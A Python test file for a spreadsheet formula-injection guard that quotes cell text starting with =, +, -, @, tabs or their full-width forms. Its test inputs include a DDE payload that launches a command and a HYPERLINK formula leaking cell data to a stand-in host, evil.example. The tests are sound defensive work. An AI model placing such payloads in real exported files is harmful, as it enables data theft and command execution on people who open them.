"""Issue 13: the one guard against formula injection in CSV and Excel cells (OWASP's list)."""

from __future__ import annotations

from decimal import Decimal

import pytest

from czesg.engine.kernel.spreadsheet import FORMULA_START, formula_safe, formula_unquoted


@pytest.mark.parametrize(("given", "written"), [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+SUM(1,1)", "'+SUM(1,1)"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("@SUM(1)", "'@SUM(1)"),
    ("-1+2", "'-1+2"),
    ("-", "'-"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("＝1+1", "'＝1+1"),
    ("＋SUM(1,1)", "'＋SUM(1,1)"),
    ("－1+2", "'－1+2"),
    ("＠SUM(1)", "'＠SUM(1)"),
])
def test_text_that_starts_like_a_formula_is_quoted(given, written):
    assert formula_safe(given) == written
    assert formula_unquoted(written) == given


@pytest.mark.parametrize("text", [
    "", "母公司及武进两家工厂", "GRI 2-2", "a=b", "1+1", "'already quoted", " =leading space",
])
def test_other_text_is_unchanged(text):
    assert formula_safe(text) == text
    assert formula_unquoted(text) == text


@pytest.mark.parametrize("number", [0, 12, -12, 3.5, -3.5, -0.0, Decimal("-1.25"), 1e300])
def test_numbers_stay_numbers(number):
    written = formula_safe(number)
    assert written == number and type(written) is type(number)


@pytest.mark.parametrize("text", ["-12", "-12.5", "+3", "-1,200.5", "-.5", "-1e5", "-1E-3"])
def test_text_of_a_plain_number_is_unchanged(text):
    # A spreadsheet reads it as a number and runs nothing; quoting it would turn it into text.
    assert formula_safe(text) == text


@pytest.mark.parametrize("value", [None, True, False])
def test_values_that_are_not_text_are_unchanged(value):
    assert formula_safe(value) is value


def test_the_leading_characters_are_owasps_and_their_full_width_forms():
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def test_the_column_expression_writes_every_text_as_the_function_does():
    # The open-data files quote whole columns at once; they must quote exactly as the function.
    import polars as pl

    from czesg.engine.kernel.spreadsheet import formula_safe_column

    texts = ["=cmd|' /C calc'!A0", "+SUM(1,1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
             "@SUM(1)", "-1+2", "-", "\t=1+1", "\r=1+1", "＝1+1", "＋SUM(1,1)", "－1+2",
             "＠SUM(1)", "", "母公司", "GRI 2-2", "a=b", "'already quoted", " =x", "-12",
             "-12.5", "+3", "-1,200.5", "-.5", "-1e5", "-1E-3", "+.", "-1e5x", "-12\n", "\n=1",
             "１", None]
    frame = pl.DataFrame({"text": texts}, schema={"text": pl.Utf8})
    assert frame.select(formula_safe_column("text"))["text"].to_list() == [
        formula_safe(text) for text in texts]
